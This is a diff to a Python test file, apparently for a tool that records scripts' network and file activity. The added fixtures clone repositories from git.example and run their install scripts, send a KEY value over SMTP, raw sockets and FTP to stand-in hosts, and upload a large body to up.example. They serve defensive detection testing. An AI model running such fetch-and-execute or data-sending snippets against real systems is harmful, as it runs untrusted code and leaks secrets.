@@ -67,6 +67,11 @@ def test_node_trusts_the_stand_in_too() -> None:
 
 CLONES = {
     "by its script": "git clone -q https://git.example/acme/kit && cd kit && ./install.sh",
+    "shallow": "git clone -q --depth 1 https://git.example/acme/kit.git k && sh k/setup.sh",
+    "fetched later": (
+        "git init -q k && cd k && git remote add o https://git.example/acme/kit.git && "
+        "git fetch -q --depth=1 o main && git checkout -q FETCH_HEAD && bash build.sh"
+    ),
     "by make": "git clone -q https://git.example/acme/kit.git; make -C kit || sh kit/install.sh",
 }
 
@@ -82,6 +87,15 @@ def test_a_clone_is_a_small_repository_that_says_so_when_it_is_run(way: str) -> 
 
 
 TALKS = {
+    "mail": (
+        "import smtplib\nwith smtplib.SMTP('mail.example', 587, timeout=9) as mail:\n"
+        "    mail.login('ada', 'pass-word')\n"
+        "    assert {} == mail.sendmail('a@b.example', ['c@d.example'], KEY)\n"
+    ),
+    "plain bytes": (
+        "import socket\nwith socket.create_connection(('raw.example', 7007), 9) as one:\n"
+        "    one.sendall(KEY)\n"
+    ),
     "FTP": (
         "import ftplib, io\nwith ftplib.FTP('ftp.example', timeout=9) as ftp:\n"
         "    ftp.login('ada', 'pass-word')\n    ftp.storbinary('STOR up.txt', io.BytesIO(KEY))\n"
@@ -242,6 +256,18 @@ for number in range(20):
 socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"last-udp", ("203.0.113.9", 999))
 os._exit(0)
 """
+
+
+def test_a_large_upload_is_answered_and_what_follows_it_is_seen() -> None:
+    upload = (
+        "import urllib.request\n"
+        "urllib.request.urlopen('http://up.example/in', b'line of a report\\n' * 20_000).read()\n"
+        "open('/tmp/done', 'w').close()\n"
+    )
+
+    record = observe({"scripts/go.py": upload})
+
+    assert (["/tmp/done"], ()) == (told(record, "write"), record.not_tried)
 
 
 def test_what_is_sent_in_the_last_moment_is_heard() -> None:
